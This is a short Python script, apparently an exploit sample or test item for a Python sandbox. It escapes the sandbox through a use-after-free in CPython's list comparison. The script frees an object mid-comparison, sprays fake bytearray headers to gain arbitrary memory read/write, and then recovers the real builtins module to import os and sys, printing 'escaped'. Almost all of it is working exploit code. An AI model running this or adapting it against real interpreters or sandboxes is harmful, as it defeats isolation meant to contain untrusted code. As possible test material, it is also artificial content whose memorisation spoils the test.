# technique: list < list: list_richcompare's final PyObject_RichCompare(vl->ob_item[i], wl->ob_item[i]) passes borrowed items; vitem.__lt__ clears wl and `del other` frees witem, a bytearray buffer refills its block with a fake bytearray-subclass header, do_richcompare then reads Py_TYPE(w) of the freed object for the reflected __gt__ -> fake bytearray (ob_bytes 0, size 2**60) handed to Python -> arbitrary R/W -> real builtins/os/sys
# expect: any
orepr = getattr(object, "__repr__")
def addr(o):
    return int(orepr(o).split(" at ")[1][:-1], 16)
got = []
class BA(bytearray):
    def __gt__(self, other):
        got.append(self)
        return True
# PyByteArrayObject: refcnt, type=BA, ob_size, ob_alloc, ob_bytes=0, ob_start=0, ob_exports=0, __dict__=0, __weakref__=0
fake = (1 << 40).to_bytes(8, "little") + addr(BA).to_bytes(8, "little") + (1 << 60).to_bytes(8, "little") * 2 + bytes(40)
fake = fake + b"\x00" * (79 - len(fake))   # 80-byte pymalloc block, same class as the freed 73-byte bytes object
spray = []
class E:
    def __lt__(self, other):
        wl.clear()
        del other                 # last reference: the bytes object is freed while list_richcompare still holds w
        for _ in range(64):
            spray.append(bytearray(fake))
        return NotImplemented     # -> do_richcompare tries Py_TYPE(w)->tp_richcompare on the freed object
wl = [b"A" * 40 + bytes([7])]
vl = [E()]
vl < wl
W = got[0]
print("fake object:", type(W), hex(len(W)))
def r64(a):
    return int.from_bytes(W[a:a+8], "little")
def w64(a, v):
    W[a:a+8] = v.to_bytes(8, "little")
def mat(a):
    L = [None]
    items = r64(addr(L) + 24)
    w64(a, r64(a) + 1)
    w64(items, a)
    return L[0]
bm = mat(r64(addr(print) + 24))            # PyCFunctionObject.m_self of print
print("real builtins module:", bm, type(bm))
bdict = mat(r64(addr(bm) + 16))           # PyModuleObject.md_dict
os = bdict["__import__"]("os")
sys = bdict["__import__"]("sys")
print("os:", os, "pid", os.getpid())
print("harness:", sys.modules.get("_safepy_harness"))
"escaped"
